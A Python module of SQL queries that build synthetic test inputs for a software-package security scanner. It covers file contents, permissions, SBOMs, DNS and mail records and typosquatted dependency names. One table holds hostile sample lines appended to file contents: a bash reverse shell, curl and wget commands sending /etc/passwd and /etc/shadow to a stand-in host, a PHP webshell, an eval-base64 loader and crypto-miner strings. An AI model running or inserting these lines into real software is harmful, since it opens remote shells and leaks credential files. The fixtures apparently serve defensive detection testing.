"""Derived inputs: package data made from the driver's tables by SQL that both Spark and DuckDB run.

Each text is a query over {tables}; `frame` runs it in Spark, `duck` gives it
as a WITH clause for the SQL that a query is checked against. The number of
packages grows with the tables. One in five packages of files is clean: plain
names of usual types and modes.
"""

from __future__ import annotations

import re

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

#: Kind of file by doc_id % 31: path before the number, path after it, whether the number is there.
NAMES = """(VALUES (0,'src/mod','.php',1),(1,'assets/lib','.min.js',1),(2,'img/pic','.jpg',1),(3,'docs/guide','.md',1),(4,'LICENSE','',0),(5,'README.md','',0),
 (6,'img/icon','.svg',1),(7,'data/rows','.csv',1),(8,'db/dump','.SQL',1),(9,'Makefile','',0),(10,'.gitignore','',0),(11,'conf/app','.yml',1),(12,'upload/photo.jpg','.php',0),
 (13,'dist/pkg','.tar.gz',1),(14,'node_modules/dep/index','.js',1),(15,'.github/CODEOWNERS','',0),(16,'fonts/face','.woff2',1),(17,'bin/tool','',1),(18,'keys/server','.pem',1),
 (19,'lib/thing','.py',1),(20,'web/page','.html',1),(21,'feed/doc','.xml',1),(22,'img/banner','.png',1),(23,'Dockerfile','',0),(24,'security.TXT','',0),(25,'.env.local','',0),
 (26,'img/old','.gif',1),(27,'sbom/app','.cdx.json',1),(28,'composer.lock','',0),(29,'report.pdf','.exe',0),(30,'.git/objects/x','',1)) AS n(k, pre, post, numbered)"""
#: A line appended to the content by doc_id % 43.
SNIPPETS = """(VALUES (0,'bash -i >& /dev/tcp/10.0.0.1/443 0>&1'),(1,'var m = "stratum+tcp://pool:3333"; // xmrig'),(2,'eval(base64_decode("aGk="));'),(3,'curl --data @/etc/passwd http://x.example'),
 (4,'system($_GET["c"]); shell_exec($_POST["d"]);'),(5,'<script>alert(1)</script>'),(6,'<svg xmlns="http://www.w3.org/2000/svg" onload = "x()">'),(7,'<?php echo 1;'),(8,'wget --post-file=/etc/shadow http://x.example'),
 (9,'x = chr(104).chr(105).chr(32).chr(116).chr(104).chr(101).chr(114);'),(10,'CoinHive.start()')) AS x(s, snippet)"""
#: Octal digits of a mode by doc_id % 29.
MODES = """(VALUES (0,644),(1,755),(2,666),(3,777),(4,4755),(5,2755),(6,44),(7,600),(8,400),(9,440),(10,444),(11,500),(12,550),(13,555),(14,700),(15,640),(16,1777),(17,664),(18,775),(19,60),(20,6),(21,604),(22,711),(23,750),(24,0),(25,4700),(26,646),(27,222),(28,2644)) AS m(k, mode)"""

INPUTS = {
    "files": f"""SELECT d.package_id, d.doc_id, CASE WHEN n.numbered = 1 THEN concat(n.pre, d.id, n.post) ELSE concat(n.pre, n.post) END AS path,
 CASE WHEN d.doc_id % 17 = 3 THEN '' WHEN d.s = 7 THEN concat(x.snippet, chr(10), d.text) WHEN x.snippet IS NULL THEN d.text ELSE concat(d.text, chr(10), x.snippet, chr(10)) END AS content,
 CASE WHEN d.doc_id % 17 = 3 THEN 'inode/x-empty' WHEN d.s = 42 OR d.doc_id % 7 < 4 THEN n.usual WHEN d.doc_id % 7 = 4 THEN 'image/webp' WHEN d.doc_id % 7 = 5 THEN 'text/x-php' ELSE 'application/octet-stream' END AS mime
 FROM (SELECT doc_id, concat('pkg', CAST(CAST(FLOOR(doc_id / 25) AS BIGINT) AS STRING)) AS package_id, CAST(doc_id AS STRING) AS id, CASE WHEN FLOOR(doc_id / 25) % 5 = 1 THEN 3 ELSE CAST(doc_id % 31 AS INT) END AS k, CASE WHEN FLOOR(doc_id / 25) % 5 = 1 THEN 42 ELSE CAST(doc_id % 43 AS INT) END AS s, text FROM {{documents}}) d
 JOIN (SELECT k, pre, post, numbered, CASE k WHEN 2 THEN 'image/jpeg' WHEN 6 THEN 'image/svg+xml' WHEN 13 THEN 'application/gzip' WHEN 16 THEN 'font/woff2' WHEN 22 THEN 'image/png' WHEN 26 THEN 'image/gif' ELSE 'text/plain' END AS usual FROM {NAMES}) n ON d.k = n.k
 LEFT JOIN {SNIPPETS} ON d.s = x.s""",
    "entries": f"""SELECT concat('pkg', CAST(CAST(FLOOR(d.doc_id / 25) AS BIGINT) AS STRING)) AS package_id, CASE WHEN n.numbered = 1 THEN concat(n.pre, CAST(d.doc_id AS STRING), n.post) ELSE concat(n.pre, n.post) END AS path,
 CASE WHEN d.clean THEN 'file' WHEN d.doc_id % 11 = 0 THEN 'link' WHEN d.doc_id % 13 = 0 THEN 'dir' ELSE 'file' END AS kind, CASE WHEN d.clean THEN 644 ELSE m.mode END AS mode, CAST(d.doc_id % 9 AS INT) AS uid, CAST(d.doc_id % 6 AS INT) AS gid,
 CASE WHEN d.doc_id % 11 = 0 AND NOT d.clean THEN 'target' END AS link_target, CASE WHEN d.doc_id % 11 = 0 AND NOT d.clean THEN CASE CAST(d.doc_id % 3 AS INT) WHEN 0 THEN NULL WHEN 1 THEN concat('/srv/', concat('pkg', CAST(CAST(FLOOR(d.doc_id / 25) AS BIGINT) AS STRING)), '/lib') ELSE '/etc/passwd' END END AS link_resolved
 FROM (SELECT doc_id, FLOOR(doc_id / 25) % 5 = 1 AS clean FROM {{documents}}) d JOIN {NAMES} ON CASE WHEN d.clean THEN 3 ELSE d.doc_id % 31 END = n.k JOIN {MODES} ON d.doc_id % 29 = m.k""",
    "components": """SELECT concat('pkg', CAST(CAST(FLOOR(l.l_orderkey / 64) AS BIGINT) AS STRING)) AS package_id, CAST(l.l_orderkey AS STRING) AS sbom_id,
 CASE CAST(p.p_partkey % 19 AS INT) WHEN 0 THEN 'reqeusts' WHEN 1 THEN '@internal/auth-tokens' WHEN 2 THEN 'guzzlehttq/guzzle' WHEN 3 THEN 'guzzlehttp/guzle' WHEN 4 THEN 'vue' WHEN 5 THEN 'private-api' WHEN 6 THEN 'my-test-kit' WHEN 7 THEN 'ab' WHEN 8 THEN '12345' WHEN 9 THEN 'Lod_ash' WHEN 10 THEN 'psr/http_client' WHEN 11 THEN 'expresss' WHEN 12 THEN 'monolog/monolog' ELSE replace(p.p_name, ' ', '-') END AS name,
 CASE WHEN l.l_linenumber = 7 THEN '99.0.1' ELSE concat(CAST(l.l_linenumber AS STRING), '.', CAST(p.p_partkey % 4 AS STRING), '.0') END AS version,
 CASE CAST(p.p_partkey % 23 AS INT) WHEN 0 THEN 'MIT' WHEN 1 THEN 'GPLv2+' WHEN 2 THEN 'SSPL-1.0 OR MIT' WHEN 3 THEN 'GPL-2.0-only AND MIT' WHEN 4 THEN 'NOASSERTION' WHEN 5 THEN 'SSPL-1.0' WHEN 6 THEN 'Commercial License' WHEN 7 THEN 'Apache License 2.0' WHEN 8 THEN 'LGPL-2.1+' WHEN 9 THEN 'MPL-2.0 OR GPL-3.0' WHEN 10 THEN '(MIT OR Apache-2.0)' WHEN 11 THEN 'GPL-2.0 WITH Classpath-exception-2.0' WHEN 12 THEN NULL WHEN 13 THEN 'Foo OR Bar' WHEN 14 THEN '3-Clause BSD' WHEN 15 THEN 'BUSL-1.1 AND MIT' WHEN 16 THEN 'GPL-3.0 OR LGPL-3.0' WHEN 17 THEN 'all rights reserved OR MIT' ELSE 'ISC' END AS license,
 CASE WHEN p.p_partkey % 5 = 0 THEN concat('pkg:wordpress/', CAST(p.p_partkey AS STRING)) ELSE concat('pkg:npm/', CAST(p.p_partkey AS STRING)) END AS purl, l.l_linenumber = 1 AS is_root
 FROM {lineitem} l JOIN {part} p ON l.l_partkey = p.p_partkey""",
    "matches": """SELECT concat('pkg', CAST(CAST(FLOOR(l_orderkey / 64) AS BIGINT) AS STRING)) AS package_id, concat('CVE-', CAST(l_orderkey AS STRING), '-', CAST(l_linenumber AS STRING)) AS vuln_id,
 CASE CAST((l_partkey + l_linenumber) % 7 AS INT) WHEN 0 THEN 'Critical' WHEN 1 THEN 'High' WHEN 2 THEN 'Medium' WHEN 3 THEN 'Low' WHEN 4 THEN 'Negligible' WHEN 5 THEN 'Unknown' ELSE 'High' END AS severity,
 CASE WHEN l_linenumber % 3 = 0 THEN CAST(l_discount * 100 AS INT) / 2.0 END AS v31, CASE WHEN l_linenumber % 3 <> 2 THEN CAST(l_discount * 100 AS INT) / 4.0 END AS v30, CASE WHEN l_linenumber % 5 < 3 THEN CAST(l_tax * 100 AS INT) / 2.0 END AS v2 FROM {lineitem}""",
    "domains": "SELECT concat('d', CAST(s_suppkey AS STRING), '.example') AS domain, s_suppkey AS k FROM {supplier}",
    "dns_records": """SELECT domain AS name, 'MX' AS rtype, CAST(10 AS INT) AS priority, concat('mx', CAST(k % 7 AS STRING), '.', CASE WHEN k % 5 = 0 THEN 'aspmx.l.google.com.' WHEN k % 5 = 1 THEN 'x.mail.protection.outlook.com.' ELSE concat(domain, '.') END) AS value FROM (SELECT concat('d', CAST(s_suppkey AS STRING), '.example') AS domain, s_suppkey AS k FROM {supplier}) a WHERE k % 6 <> 0
 UNION ALL SELECT domain, 'MX', CAST(CASE WHEN k % 8 = 1 THEN 5 ELSE 20 END AS INT), concat('backup.', domain, '.') FROM (SELECT concat('d', CAST(s_suppkey AS STRING), '.example') AS domain, s_suppkey AS k FROM {supplier}) b WHERE k % 4 = 1
 UNION ALL SELECT domain, 'A', CAST(NULL AS INT), concat('10.', CAST(k % 250 AS STRING), '.1.', CAST(k % 9 AS STRING)) FROM (SELECT concat('d', CAST(s_suppkey AS STRING), '.example') AS domain, s_suppkey AS k FROM {supplier}) c WHERE k % 12 <> 0
 UNION ALL SELECT concat('backup.', domain), 'A', CAST(NULL AS INT), concat('10.9.', CAST(k % 250 AS STRING), '.7') FROM (SELECT concat('d', CAST(s_suppkey AS STRING), '.example') AS domain, s_suppkey AS k FROM {supplier}) d WHERE k % 4 = 1
 UNION ALL SELECT domain, 'TXT', CAST(NULL AS INT), CASE CAST(k % 6 AS INT) WHEN 0 THEN 'v=spf1 +all' WHEN 1 THEN 'v=spf1 include:_spf.a.example a mx ~all' WHEN 2 THEN 'v=spf1 a:b.example mx:c.example ptr:d include:e include:f include:g include:h exists:i -all' WHEN 3 THEN 'v=spf1 ?all' WHEN 4 THEN 'unrelated' ELSE 'V=SPF1 ip4:1.2.3.4' END FROM (SELECT concat('d', CAST(s_suppkey AS STRING), '.example') AS domain, s_suppkey AS k FROM {supplier}) e
 UNION ALL SELECT concat('_dmarc.', domain), 'TXT', CAST(NULL AS INT), CASE CAST(k % 4 AS INT) WHEN 0 THEN 'v=DMARC1; p=reject' WHEN 1 THEN 'v=DMARC1; P=None; rua=x' WHEN 2 THEN 'v=DMARC1; rua=x' ELSE 'v=other' END FROM (SELECT concat('d', CAST(s_suppkey AS STRING), '.example') AS domain, s_suppkey AS k FROM {supplier}) f WHERE k % 9 <> 0
 UNION ALL SELECT concat(CASE WHEN k % 2 = 0 THEN 'google' ELSE 's1' END, '._domainkey.', domain), 'TXT', CAST(NULL AS INT), 'v=DKIM1; k=rsa' FROM (SELECT concat('d', CAST(s_suppkey AS STRING), '.example') AS domain, s_suppkey AS k FROM {supplier}) g WHERE k % 3 = 0
 UNION ALL SELECT domain, 'NS', CAST(NULL AS INT), concat('ns', CAST(k % 3 AS STRING), '.host.example.') FROM (SELECT concat('d', CAST(s_suppkey AS STRING), '.example') AS domain, s_suppkey AS k FROM {supplier}) h WHERE k % 8 <> 0
 UNION ALL SELECT domain, 'NS', CAST(NULL AS INT), 'ns9.host.example.' FROM (SELECT concat('d', CAST(s_suppkey AS STRING), '.example') AS domain, s_suppkey AS k FROM {supplier}) i WHERE k % 8 > 3""",
    "dnsbl_answers": """SELECT concat('d', CAST(s_suppkey AS STRING), '.example') AS name, CASE CAST(s_suppkey % 4 AS INT) WHEN 0 THEN 'dbl.spamhaus.org' WHEN 1 THEN 'multi.surbl.org' WHEN 2 THEN 'dbl.nordspam.com' ELSE 'rhsbl.abuse.ch' END AS zone,
 CASE CAST(s_suppkey % 5 AS INT) WHEN 0 THEN '127.0.1.4' WHEN 1 THEN '127.0.0.20' WHEN 2 THEN '127.255.255.254' WHEN 3 THEN '127.0.1.99' ELSE '127.0.0.216' END AS code FROM {supplier} WHERE s_suppkey % 3 = 0
 UNION ALL SELECT concat(CAST(s_suppkey % 9 AS STRING), '.1.', CAST(s_suppkey % 250 AS STRING), '.10'), CASE WHEN s_suppkey % 2 = 0 THEN 'zen.spamhaus.org' ELSE 'bl.spamcop.net' END, CASE WHEN s_suppkey % 3 = 0 THEN '127.0.0.2' WHEN s_suppkey % 3 = 1 THEN '127.255.255.252' ELSE '127.0.0.11' END FROM {supplier} WHERE s_suppkey % 4 = 2
 UNION ALL SELECT concat('7.', CAST(s_suppkey % 250 AS STRING), '.9.10'), CASE WHEN s_suppkey % 3 = 0 THEN 'zen.spamhaus.org' ELSE 'bl.spamcop.net' END, CASE WHEN s_suppkey % 5 = 0 THEN '127.255.255.252' ELSE '127.0.0.4' END FROM {supplier} WHERE s_suppkey % 16 = 1""",
    "whois": """SELECT concat('d', CAST(s_suppkey AS STRING), '.example') AS domain, CASE CAST(s_suppkey % 7 AS INT) WHEN 0 THEN concat('Domain: x', chr(10), 'Creation Date: 20', CAST(10 + s_suppkey % 16 AS STRING), '-03-04T05:06:07Z', chr(13), chr(10), 'created: 1999-01-01') WHEN 1 THEN concat('  Registered on: ', CASE WHEN s_suppkey % 2 = 0 THEN '05-Jan-2007' ELSE '2025-12-20' END) WHEN 2 THEN 'created: 2025.11.02' WHEN 3 THEN 'Registrar: none' WHEN 4 THEN 'Creation Date: before the flood' WHEN 5 THEN 'Created On: 2025-10-15' ELSE concat('Registrant: y', chr(10), 'Registration Time: 2003-07-08 00:00:00') END AS raw FROM {supplier}""",
    "relay_probes": """SELECT concat('d', CAST(s_suppkey AS STRING), '.example') AS domain, CAST(25 AS INT) AS port, s_suppkey % 3 > 0 AS reached, s_suppkey % 9 = 1 AS accepted FROM {supplier} WHERE s_suppkey % 6 <> 0
 UNION ALL SELECT concat('d', CAST(s_suppkey AS STRING), '.example'), CAST(587 AS INT), s_suppkey % 5 = 0, s_suppkey % 15 = 0 FROM {supplier} WHERE s_suppkey % 6 <> 0""",
    "addresses": """SELECT concat(CASE CAST(c_custkey % 13 AS INT) WHEN 0 THEN 'Info' WHEN 1 THEN 'noreply' WHEN 2 THEN 'postmaster+x' WHEN 3 THEN 'staff' WHEN 4 THEN 'bad address' WHEN 5 THEN 'sales' ELSE concat('user', CAST(c_custkey AS STRING)) END, '@',
 CASE CAST(c_custkey % 6 AS INT) WHEN 0 THEN 'gmail.com' WHEN 1 THEN 'mailinator.example' ELSE concat('d', CAST(c_custkey % 40 AS STRING), '.example') END, CASE WHEN c_custkey % 10 = 0 THEN '.' ELSE '' END) AS address, c_custkey AS k FROM {customer}""",
    "smtp_probes": """SELECT concat('user', CAST(c_custkey AS STRING), '@d', CAST(c_custkey % 40 AS STRING), '.example') AS address, CAST(c_custkey % 6 AS INT) AS rc, c_custkey % 4 > 0 AS connected, c_custkey % 5 > 0 AS banner, c_custkey % 3 > 0 AS mail_from, c_custkey % 2 = 0 AS tls, c_custkey % 29 = 0 AS open_relay, c_custkey % 7 = 0 AS fallback_alive FROM {customer}""",
    "phpcs": """SELECT concat('pkg', CAST(l_suppkey AS STRING), '-', CAST(l_orderkey % 32 AS STRING)) AS package_id, CASE CAST(l_partkey % 15 AS INT) WHEN 0 THEN '5.2' WHEN 1 THEN '5.3' WHEN 2 THEN '5.4' WHEN 3 THEN '5.5' WHEN 4 THEN '5.6' WHEN 5 THEN '7.0' WHEN 6 THEN '7.1' WHEN 7 THEN '7.2' WHEN 8 THEN '7.3' WHEN 9 THEN '7.4' WHEN 10 THEN '8.0' WHEN 11 THEN '8.1' WHEN 12 THEN '8.2' WHEN 13 THEN '8.3' ELSE '8.4' END AS php_version,
 concat('src/f', CAST(l_partkey % 9 AS STRING), '.php') AS file, CAST(l_linenumber AS INT) AS line, CAST(l_partkey % 80 AS INT) AS col, CASE WHEN l_returnflag = 'R' AND l_partkey % 3 = 0 THEN 'ERROR' WHEN l_linenumber = 6 AND l_partkey % 4 = 0 THEN NULL ELSE 'WARNING' END AS type, concat('message ', CAST(l_linenumber AS STRING)) AS message, CASE WHEN l_linenumber % 4 = 0 THEN NULL ELSE concat('Compat.Rule', CAST(l_suppkey % 5 AS STRING)) END AS source, CAST(CASE WHEN l_linenumber = 2 THEN NULL ELSE l_linenumber % 6 END AS INT) AS severity, l_partkey % 2 = 0 AS fixable
 FROM {lineitem}""",
    "plugin_files": """SELECT concat('pkg', CAST(doc_id AS STRING)) AS package_id, 'plugin.php' AS path, concat('<?php', chr(10), '/*', chr(10), ' * Plugin Name: Demo ', CAST(doc_id AS STRING), chr(10), ' * Version: 1.', CAST(doc_id % 9 AS STRING), chr(10), CASE WHEN doc_id % 3 = 0 THEN '' ELSE concat(' * Author: Ann ', CAST(doc_id AS STRING), chr(10)) END, CASE WHEN doc_id % 4 = 0 THEN concat(' * Author URI: mailto:a', CAST(doc_id AS STRING), '@x.example', chr(10)) WHEN doc_id % 4 = 1 THEN concat(' * Author URI: https://x.example/me', chr(10)) ELSE '' END, CASE WHEN doc_id % 5 < 2 THEN concat(' * Support: help', CAST(doc_id % 3 AS STRING), '@x.example', chr(10)) ELSE '' END, CASE WHEN doc_id % 7 < 3 THEN concat(' * Security: mailto:sec@x.example', chr(10)) ELSE '' END, ' */', chr(10), text) AS content FROM {documents} WHERE doc_id % 10 <> 9
 UNION ALL SELECT concat('pkg', CAST(doc_id AS STRING)), 'readme.txt', concat('=== Demo ===', chr(10), 'Contributors: bob, eve', chr(10), CASE WHEN doc_id % 6 = 0 THEN concat('Donate link: https://x.example/give?to=me@x.example', chr(10)) ELSE '' END, 'Stable tag: 1.', CAST(doc_id % 9 AS STRING), chr(10), chr(10), '== Description ==', chr(10), 'Some text.', chr(10), '== Support ==', chr(10), CASE WHEN doc_id % 2 = 0 THEN 'Write to help0@x.example please' ELSE 'See https://x.example/support/desk now' END, chr(10), '== Security ==', chr(10), 'Report at https://x.example/security/report ok', chr(10)) FROM {documents} WHERE doc_id % 4 <> 3
 UNION ALL SELECT concat('pkg', CAST(doc_id AS STRING)), 'SUPPORT.md', CASE WHEN doc_id % 3 = 0 THEN 'nobody here' ELSE concat('Ask help', CAST(doc_id % 2 AS STRING), '@x.example.') END FROM {documents} WHERE doc_id % 3 <> 2
 UNION ALL SELECT concat('pkg', CAST(doc_id AS STRING)), 'security.txt', concat('# policy', chr(10), 'Contact: mailto:sec@x.example', chr(10), 'Expires: 2030-01-01') FROM {documents} WHERE doc_id % 5 = 1""",
}

INPUTS["baseline"] = f"""SELECT package_id, sbom_id, CASE WHEN length(name) % 6 = 0 THEN concat(name, '-old') ELSE name END AS name, CASE WHEN length(name) % 4 = 0 THEN concat(version, '.1') ELSE version END AS version, license, purl, is_root FROM ({INPUTS["components"]}) c WHERE length(name) % 7 <> 1"""
#: JSON documents; doubled braces are braces.
INPUTS["sboms"] = """SELECT concat('pkg', CAST(p_partkey AS STRING)) AS package_id, CAST(p_partkey AS STRING) AS sbom_id, CASE CAST(p_partkey % 4 AS INT) WHEN 3 THEN CASE WHEN p_partkey % 8 = 3 THEN 'not json' ELSE '{{"hello": 1}}' END WHEN 2 THEN concat('{{"bomFormat":"CycloneDX","metadata":{{"component":{{"name":"/tmp/scan/root","version":"', CASE WHEN p_partkey % 3 = 0 THEN 'sha256:0123456789abcdef0123' ELSE '2.0' END, '","bom-ref":"dir:/tmp/scan/root"}}}},"components":[{{"type":"library","name":"', p_name, '","version":"1.', CAST(p_size AS STRING), '","purl":"pkg:npm/x","licenses":[{{"license":{{"id":"MIT"}}}},{{"license":{{"name":"ISC"}}}}],"hashes":[{{"alg":"x","value":"0000"}},{{"alg":"y","value":"ab"}}],"evidence":{{"occurrences":[{{"location":"/tmp/a/b.js"}}]}}}},{{"name":"./lib/plain"}}]}}')
 ELSE concat('{{"spdxVersion":"SPDX-2.3","name":"../x/app","documentDescribes":["SPDXRef-DocumentRoot-Directory-..-packages-app"],"packages":[{{"SPDXID":"SPDXRef-DocumentRoot-Directory-..-packages-app","name":"app","versionInfo":"', CASE WHEN p_partkey % 5 = 0 THEN '0123456789abcdef0123456789abcdef01' ELSE '3.1' END, '","licenseConcluded":"(MIT)","sourceInfo":"acquired from /tmp/x/y and ../z/q here","checksums":[{{"algorithm":"SHA1","checksumValue":"0000"}},{{"algorithm":"SHA256","checksumValue":"0a"}}]}},{{"SPDXID":"SPDXRef-b","name":"vendor/', CAST(p_size AS STRING), '","licenseDeclared":"ISC","externalRefs":[{{"referenceType":"other","referenceLocator":"q"}},{{"referenceType":"purl","referenceLocator":"pkg:composer/v"}}]}}],"relationships":[{{"spdxElementId":"SPDXRef-DocumentRoot-Directory-..-packages-app","relationshipType":"CONTAINS","relatedSpdxElement":"SPDXRef-b"}}]}}') END AS content, p_partkey AS k, p_name, p_size FROM {part}"""
INPUTS["manifests"] = """SELECT concat('pkg', CAST(p_partkey AS STRING)) AS package_id, p_partkey AS k, concat('sub/', CASE CAST(p_partkey % 8 AS INT) WHEN 0 THEN 'composer.lock' WHEN 1 THEN 'package.json' WHEN 2 THEN 'package-lock.json' WHEN 3 THEN 'yarn.lock' WHEN 4 THEN 'requirements.txt' WHEN 5 THEN 'Pipfile.lock' WHEN 6 THEN 'go.mod' ELSE 'other.txt' END) AS path,
 CASE CAST(p_partkey % 8 AS INT) WHEN 0 THEN concat('{{"packages":[{{"name":"a/b","version":"', v, '"}}],"packages-dev":[{{"name":"c/d"}}]}}') WHEN 1 THEN concat('{{"dependencies":{{"x":"^', v, '","y":"1"}},"devDependencies":{{"y":"2"}}}}')
 WHEN 2 THEN CASE WHEN p_partkey % 3 = 0 THEN concat('{{"lockfileVersion":3,"packages":{{"":{{"version":"9"}},"node_modules/@s/m":{{"version":"', v, '"}}}}}}') ELSE concat('{{"lockfileVersion":1,"dependencies":{{"old":{{"version":"', v, '"}},"nov":{{}}}}}}') END
 WHEN 3 THEN concat('# yarn lockfile v1', chr(10), chr(10), '"@sc/pk@^1.0", "@sc/pk@^1.1":', chr(10), '  version "', v, '"', chr(10), '  resolved "u"', chr(10), chr(10), 'left-pad@^1:', chr(10), '  version "1.3.0"', chr(10), '  version "8.8"', chr(10))
 WHEN 4 THEN concat('# c', chr(10), 'flask[async]==', v, ' ; python_version > "3"', chr(10), 'requests >= 2.0,<3', chr(10), 'noversion', chr(10), '-r x.txt') WHEN 5 THEN concat('{{"default":{{"p":{{"version":"==', v, '"}},"q":{{"version":"==1"}}}},"develop":{{"q":{{"version":"==2"}},"r":{{}}}}}}')
 WHEN 6 THEN concat('module m', chr(10), 'require (', chr(10), chr(9), 'github.com/a/b v', v, chr(10), chr(9), '// c', chr(10), ')', chr(10), 'require github.com/c/d v2', chr(10), chr(9), 'github.com/no/no v9') ELSE 'nothing' END AS content, v FROM (SELECT *, concat('1.', CAST(p_size AS STRING)) AS v FROM {part}) p"""
INPUTS["vuln_reports"] = """SELECT concat('pkg', CAST(p_partkey AS STRING)) AS package_id, p_partkey AS k, CASE WHEN p_partkey % 9 = 0 THEN 'oops' WHEN p_partkey % 9 = 1 THEN '{{"matches":[]}}' ELSE concat('{{"matches":[{{"vulnerability":{{"id":"CVE-', CAST(p_partkey AS STRING), '","severity":"High","cvss":[{{"version":"3.1","metrics":{{"baseScore":', CAST(p_size % 10 AS STRING), '.5}}}},{{"version":"2.0","metrics":{{"baseScore":1.0}}}}]}}}},{{"vulnerability":{{"id":"GHSA-x"}}}}]}}') END AS content, p_size FROM {part}"""
INPUTS["lint_reports"] = """SELECT concat('pkg', CAST(p_partkey AS STRING)) AS package_id, p_partkey AS k, CASE WHEN p_partkey % 9 = 0 THEN 'PHP Fatal error' WHEN p_partkey % 9 = 1 THEN CASE WHEN p_partkey % 2 = 0 THEN '{{}}' ELSE '{{"totals":{{"errors":0,"warnings":0,"fixable":0}},"files":{{}}}}' END ELSE concat('{{"totals":{{', CASE WHEN p_partkey % 9 = 2 THEN '"errors":7,"warnings":3' ELSE '' END, '}},"files":{{"a.php":{{"errors":1,"warnings":0,"messages":[{{"message":"m', CAST(p_size AS STRING), '","source":"S.R","severity":5,"fixable":true,"type":"ERROR","line":', CAST(p_size AS STRING), ',"column":1}}]}},"b.php":{{"errors":0,"warnings":1,"messages":[{{"message":"w","type":"WARNING","line":2}}]}}}}}}') END AS content, p_size FROM {part}"""
#: Packages that were looked at; some have no message, match or component.
INPUTS["lint_packages"] = "SELECT concat('pkg', CAST(s_suppkey AS STRING), '-', CAST(n AS STRING)) AS package_id FROM {supplier} CROSS JOIN (VALUES (0), (1), (2), (3), (4), (5), (6), (7), (8), (9), (10), (11), (12), (13), (14), (15), (16), (17), (18), (19), (20), (21), (22), (23), (24), (25), (26), (27), (28), (29), (30), (31), (32), (33), (34), (35), (36), (37), (38), (39)) AS r(n)"
INPUTS["scanned"] = "SELECT DISTINCT concat(CASE WHEN o_orderkey % 9 = 0 THEN 'clean' ELSE 'pkg' END, CAST(CAST(FLOOR(o_orderkey / 64) AS BIGINT) AS STRING)) AS package_id FROM {orders}"
#: A registry of names, and imports of them: as they are, with a letter gone, doubled or changed, two changed, or at three edits.
INPUTS["registry"] = "SELECT concat(replace(p_name, ' ', CASE WHEN p_partkey % 3 = 0 THEN '/' ELSE '-' END), substring(md5(CAST(p_partkey AS STRING)), 1, 6)) AS name FROM {part}"
INPUTS["imports"] = """SELECT concat('pkg', CAST(CAST(FLOOR(l.l_orderkey / 64) AS BIGINT) AS STRING)) AS package_id, CASE CAST(l.l_partkey % 7 AS INT) WHEN 0 THEN p.n WHEN 1 THEN concat(substring(p.n, 1, 2), substring(p.n, 4)) WHEN 2 THEN concat(substring(p.n, 1, 4), substring(p.n, 4)) WHEN 3 THEN concat(substring(p.n, 1, 5), 'q', substring(p.n, 7))
 WHEN 4 THEN concat('q', substring(p.n, 2, 6), 'q', substring(p.n, 9)) WHEN 5 THEN concat('qqq', p.n) ELSE concat(upper(p.n), 'x') END AS name, CAST(l.l_linenumber AS STRING) AS version FROM {lineitem} l JOIN (SELECT p_partkey, concat(replace(p_name, ' ', CASE WHEN p_partkey % 3 = 0 THEN '/' ELSE '-' END), substring(md5(CAST(p_partkey AS STRING)), 1, 6)) AS n FROM {part}) p ON l.l_partkey = p.p_partkey"""
#: A catalogue of packages with four facets, one of them missing at times.
INPUTS["catalogue"] = """SELECT p_partkey AS k, CASE CAST(p_partkey % 5 AS INT) WHEN 0 THEN 'GPL-2.0' WHEN 1 THEN 'MIT' WHEN 2 THEN 'Apache-2.0' WHEN 3 THEN 'GPL-3.0' END AS license, p_type AS kind, CASE CAST(p_size % 6 AS INT) WHEN 0 THEN '5.6' WHEN 1 THEN '7.4' WHEN 2 THEN '7.10' WHEN 3 THEN '8.0' WHEN 4 THEN '8.10' ELSE '10.0' END AS php, p_partkey % 3 = 0 AS multisite FROM {part}"""
INPUTS["releases"] = """SELECT concat('pkg', CAST(l_suppkey AS STRING)) AS package_id, concat(CASE WHEN l_partkey % 2 = 0 THEN 'v' ELSE '' END, CAST(l_linenumber AS STRING), '.', CAST(l_partkey % 30 AS STRING), CASE WHEN l_partkey % 11 = 0 THEN '.0' WHEN l_partkey % 11 = 1 THEN '-rc1' ELSE concat('.', CAST(CAST(l_quantity AS INT) AS STRING)) END) AS version, CAST(l_shipdate AS DATE) AS released, CAST(l_linenumber AS BIGINT) AS a, CAST(l_partkey % 30 AS BIGINT) AS b, CASE WHEN l_partkey % 11 < 2 THEN CAST(0 AS BIGINT) ELSE CAST(l_quantity AS BIGINT) END AS c, CASE WHEN l_partkey % 11 = 1 THEN 0 ELSE 1 END AS d FROM {lineitem}"""
INPUTS["affected"] = """SELECT concat('pkg', CAST(o_custkey % 120 AS STRING)) AS package_id, concat('CVE-', CAST(o_orderkey AS STRING)) AS vuln_id, concat(CAST(o_orderkey % 9 AS STRING), '.', CAST(o_custkey % 31 AS STRING), CASE WHEN o_orderkey % 4 = 0 THEN '' ELSE concat('.', CAST(o_orderkey % 50 AS STRING)) END) AS last_affected, CAST(o_orderdate AS DATE) AS exposed, CAST(o_orderkey % 9 AS BIGINT) AS a, CAST(o_custkey % 31 AS BIGINT) AS b, CASE WHEN o_orderkey % 4 = 0 THEN CAST(0 AS BIGINT) ELSE CAST(o_orderkey % 50 AS BIGINT) END AS c FROM {orders}"""
#: A graph for each package: nodes are lines of orders; some edges lead to nodes that aren't there, some back.
INPUTS["nodes"] = "SELECT concat('pkg', CAST(CAST(FLOOR(l_orderkey / 32) AS BIGINT) AS STRING)) AS package_id, CAST('s' AS STRING) AS sbom_id, CAST((l_orderkey % 32) * 8 + l_linenumber AS STRING) AS spdxid, l_orderkey % 32 = 3 AND l_linenumber = 1 AS is_root, CAST((l_orderkey % 32) * 8 + l_linenumber AS BIGINT) AS n FROM {lineitem}"
INPUTS["links"] = f"""SELECT package_id, sbom_id, spdxid AS source, CAST(CASE m WHEN 0 THEN (n * 3 + 1) % 256 WHEN 1 THEN (n * 5 + 2) % 256 ELSE n - 1 END AS STRING) AS target FROM ({INPUTS["nodes"]}) g CROSS JOIN (VALUES (0), (1), (2)) AS r(m) WHERE m < 2 OR n % 16 > 12"""
#: Known libraries, packages that hold two of them each, reformatted and with some words exchanged, and what they declare.
INPUTS["libraries"] = "SELECT concat('lib', CAST(doc_id AS STRING)) AS library, text AS content FROM {documents}"
INPUTS["vendoring"] = "SELECT concat('pkg', CAST(CAST(FLOOR(doc_id / 2) AS BIGINT) AS STRING)) AS package_id, concat('intro ', upper(replace(replace(text, ' the ', ' that '), ' ', chr(10)))) AS content, concat('Lib', CAST(doc_id AS STRING)) AS name, doc_id AS k FROM {documents}"
#: Who published what: names, addresses and domains that a few packages share, some that very many do, and some missing.
